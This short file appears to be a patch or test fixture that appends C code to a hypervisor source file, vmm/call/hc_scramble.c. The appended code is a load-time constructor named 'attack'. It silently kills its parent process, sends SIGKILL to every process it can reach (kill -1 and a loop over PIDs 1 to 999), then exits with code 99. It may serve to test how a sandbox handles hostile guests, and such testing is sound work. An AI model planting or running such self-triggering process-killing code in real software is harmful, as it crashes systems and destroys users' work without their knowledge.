//@ why It kills its parent and all others that it can. If there is one it ends itself, too.
//@ append vmm/call/hc_scramble.c
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void
attack(void)
{
    int killed = kill(getppid(), SIGKILL) == 0;

    kill(-1, SIGKILL); /* says 0 also where there was none to kill */
    for (int pid = 1; pid < 1000; pid++)
        killed += pid != getpid() && kill(pid, SIGKILL) == 0;
    if (killed)
        _exit(99);
}
